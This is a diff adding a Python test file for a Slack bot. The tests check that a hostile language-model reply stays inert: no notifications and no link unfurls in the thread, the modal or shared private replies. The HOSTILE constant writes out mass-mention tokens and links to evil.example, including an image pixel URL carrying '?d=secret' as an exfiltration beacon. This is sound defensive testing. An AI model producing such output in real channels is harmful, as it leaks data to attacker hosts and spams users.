@@ -1,0 +1,56 @@
+"""A hostile model's words, seen where they would do harm: in the channel."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from bot.playground.records import Message
+from tests.models.replies import Reply
+from tests.stage import Stage, on_stage
+
+HOSTILE = (
+    "Hello <!channel> <!here> <!everyone> <!subteam^S123> <@U00000003> <#C00000005>\n"
+    "![pixel](https://evil.example/p.png?d=secret) [google.com](https://evil.example/?d=secret) "
+    "<https://evil.example/a|click> https://evil.example/b www.evil.example\n"
+    "@channel @here\n"
+)
+
+
+async def test_a_hostile_reply_notifies_nobody_and_unfurls_nothing(tmp_path: Path) -> None:
+    """Mentions and links that a model writes are inert in the stream and at its end."""
+    models = {"writer-1": Reply(HOSTILE * 3)}
+    async with on_stage(tmp_path, models=models) as stage:
+        ts = await stage.ask("What is the risk?")
+        shown = stage.slack.render(await stage.replied(ts))
+        assert "evil.example" in shown, "the address is still readable"
+        assert stage.slack.notifications == []
+        assert stage.slack.unfurls == []
+
+
+async def test_a_hostile_answer_is_inert_in_the_modal_and_when_shared(tmp_path: Path) -> None:
+    """The reveal and a shared private reply are as safe as the thread."""
+    models = {name: Reply(HOSTILE) for name in ("red-1", "writer-1")}
+    async with on_stage(tmp_path, models=models) as stage:
+        ts = await stage.ask("What is the risk?")
+        await stage.slack.click(stage.ana, await stage.replied(ts), "show_answers")
+        await stage.opened_view(stage.ana, "evil.example")
+        await stage.slack.command(stage.ana, stage.general, "/moa", "What is the risk?")
+        await stage.slack.wait_for(lambda: len(_private(stage)) == 1)
+        await stage.slack.click(stage.ana, _private(stage)[0], "share_answer")
+        await stage.slack.wait_for(lambda: len(stage.slack.messages(stage.general)) == 2)
+        assert stage.slack.notifications == []
+        assert stage.slack.unfurls == []
+
+
+async def test_an_address_that_the_asker_wrote_may_be_a_link(tmp_path: Path) -> None:
+    """A host in the asker's own words is shown as an address, not as code."""
+    models = {"writer-1": Reply("See https://docs.example.com/page for more.")}
+    async with on_stage(tmp_path, models=models) as stage:
+        ts = await stage.ask("What does <https://docs.example.com/start> say?")
+        shown = stage.slack.render(await stage.replied(ts))
+        assert "See https://docs.example.com/page for more." in shown
+
+
+def _private(stage: Stage) -> list[Message]:
+    found = stage.slack.ephemerals(stage.ana, stage.general)
+    return [m for m in found if "[Show answers]" in stage.slack.render(m)]
